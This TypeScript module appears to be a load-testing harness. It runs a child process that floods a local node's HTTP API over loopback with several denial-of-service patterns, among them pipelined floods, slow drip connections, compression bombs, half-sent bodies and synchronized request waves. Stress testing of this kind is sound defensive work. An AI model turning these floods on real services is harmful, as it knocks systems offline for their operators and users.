/**
 * Program of an attacker that floods a node with HTTP connections and requests. The attacker runs in its own process,
 * so that its work does not delay the measuring process. The parent process sends a `Flood` to the attacker. The
 * attacker opens its connections, replaces each closed connection, and sends what `FloodKind` describes. The attacker
 * ends when its flood is over or when its parent ends.
 */

import { connect, type Socket } from 'node:net';
import { brotliCompressSync, gzipSync } from 'node:zlib';

export interface Flood {
  readonly kind: FloodKind;
  readonly port: number;
  /** Local addresses of the loopback network from which the attacker connects. */
  readonly sources: readonly string[];
  readonly connections: number;
  readonly durationMs: number;
  /** Bodies that a `junk` flood sends in turn. */
  readonly bodies: readonly string[];
}

/**
 * - `pipelined`: pipelined requests on each connection until the end of the flood; all answers are read
 * - `unread`: 64 kB of requests on each connection, then one byte every 500 ms; no answer is read
 * - `bombs`: pipelined requests to existing paths and one missing path; each compressed body unpacks to 2 MB
 * - `bodies`: the first half of a body of 128 kB on each connection, then one byte every 500 ms
 * - `silent`: connections that send nothing
 * - `events`: a request for the event stream on each connection, then one byte every 500 ms; no event is read
 * - `wave`: every two seconds, all connections at the same time send 64 kB of requests each
 * - `peerPort`: the requests of `pipelined`, but sent to the port on which the node accepts peers
 * - `junk`: POST requests with `Flood.bodies` as transactions; each request follows the answer to the previous request
 */
export type FloodKind =
  'pipelined' | 'unread' | 'bombs' | 'bodies' | 'silent' | 'events' | 'wave' | 'peerPort' | 'junk';

/** Totals over all connections. The attacker sends them to its parent process at the end of the flood. */
export interface FloodFigures {
  readonly opened: number;
  readonly closed: number;
  readonly sentBytes: number;
}

const CHUNK_BYTES = 64 * 1024;
const RECONNECT_MS = 2;
const DRIP_MS = 500;
const WAVE_MS = 2_000;

process.once('message', (flood) => attack(flood as Flood));

function attack({ kind, port, sources, connections, durationMs, bodies }: Flood): void {
  const chunk = chunkOf(kind);
  const posts = bodies.map(postOf);
  const open = new Set<Socket>();
  let [opened, closed, sentBytes, isOver] = [0, 0, 0, false];

  const line = (number: number): void => {
    const socket = connect({ host: '127.0.0.1', port, localAddress: sources[number % sources.length] ?? '127.0.0.1' });
    open.add(socket);
    let drip: NodeJS.Timeout | undefined;
    const send = (): void => {
      if (socket.destroyed) return;
      sentBytes += chunk.length;
      if (socket.write(chunk)) setImmediate(send);
      else socket.once('drain', send);
    };
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      opened += 1;
      if (kind === 'pipelined' || kind === 'bombs' || kind === 'peerPort') {
        socket.resume();
        send();
      } else if (kind === 'wave') {
        socket.resume();
      } else if (kind === 'junk') {
        let post = number;
        const next = (): void => {
          const bytes = posts[(post += 1) % posts.length] ?? '';
          sentBytes += bytes.length;
          socket.write(bytes);
        };
        // Each answer is short enough to arrive in one chunk, so one `data` event means one answer.
        socket.on('data', next);
        next();
      } else if (kind !== 'silent') {
        sentBytes += chunk.length;
        socket.write(chunk);
        // The attacker does not read this socket, so it notices the end of the connection only by a failed write.
        drip = setInterval(() => socket.write('x'), DRIP_MS);
      }
    });
    socket.on('close', () => {
      closed += 1;
      clearInterval(drip);
      open.delete(socket);
      if (!isOver) setTimeout(() => !isOver && line(number), RECONNECT_MS);
    });
    if (kind === 'silent') socket.resume();
  };

  const end = (): void => {
    isOver = true;
    for (const socket of open) socket.destroy();
    process.send?.({ opened, closed, sentBytes } satisfies FloodFigures, () => process.exit(0));
  };
  const wave = (): void => {
    for (const socket of open) {
      if (!socket.writable || socket.connecting) continue;
      sentBytes += chunk.length;
      socket.write(chunk);
    }
  };
  if (kind === 'wave') setInterval(wave, WAVE_MS);
  for (let number = 0; number < connections; number += 1) line(number);
  setTimeout(end, durationMs);
  process.on('disconnect', () => process.exit(0));
}

function postOf(body: string): string {
  const head = ['POST /api/transactions HTTP/1.1', 'Host: a', 'Content-Type: application/json'];
  return [...head, `Content-Length: ${Buffer.byteLength(body)}`, '', body].join('\r\n');
}

function chunkOf(kind: FloodKind): Buffer {
  switch (kind) {
    case 'silent':
      return Buffer.alloc(0);
    case 'events':
      return Buffer.from('GET /api/events HTTP/1.1\r\nHost: a\r\n\r\n');
    case 'bodies':
      return Buffer.concat([
        Buffer.from('POST /api/transactions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n'),
        Buffer.from(`Content-Length: ${128 * 1024}\r\n\r\n{"id":"`),
        Buffer.alloc(CHUNK_BYTES, 'x'),
      ]);
    case 'bombs':
      return filled([
        bomb('/nothing', 'br', brotliCompressSync(Buffer.from(`"${'a'.repeat(2 * 1024 * 1024 - 3)}"`))),
        bomb('/api/transactions', 'br', brotliCompressSync(Buffer.from(`["${'a'.repeat(2 * 1024 * 1024 - 5)}"]`))),
        bomb('/api/accounts', 'gzip', gzipSync(Buffer.from(`["${'a'.repeat(2 * 1024 * 1024 - 5)}"]`))),
      ]);
    default:
      return filled(
        ['/api/blocks?limit=100', '/api/delegates?limit=101', '/api/nothing', '/api/accounts?limit=100'].map((path) =>
          Buffer.from(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`),
        ),
      );
  }
}

function bomb(path: string, encoding: string, body: Buffer): Buffer {
  const head = [
    `POST ${path} HTTP/1.1`,
    'Host: a',
    'Content-Type: application/json',
    `Content-Encoding: ${encoding}`,
    `Content-Length: ${body.length}`,
  ];
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), body]);
}

/** Repeats `requests` in their order, and joins as many whole requests as fit into 64 kB. */
function filled(requests: readonly Buffer[]): Buffer {
  const chosen: Buffer[] = [];
  for (let bytes = 0, turn = 0; ; turn += 1) {
    const request = requests[turn % requests.length] ?? Buffer.alloc(0);
    bytes += request.length;
    if (bytes > CHUNK_BYTES) return Buffer.concat(chosen);
    chosen.push(request);
  }
}
